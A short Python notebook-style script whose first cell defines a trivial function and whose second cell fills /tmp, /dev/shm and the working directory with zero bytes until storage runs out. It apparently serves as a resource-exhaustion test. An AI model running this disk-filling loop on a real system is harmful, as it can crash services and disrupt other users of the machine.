# %%
answer = 42


def double(x):
    return 2 * x

# %%
for folder in ("/tmp", "/dev/shm", "."):
    try:
        with open(f"{folder}/fill", "wb", 0) as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        print("full")
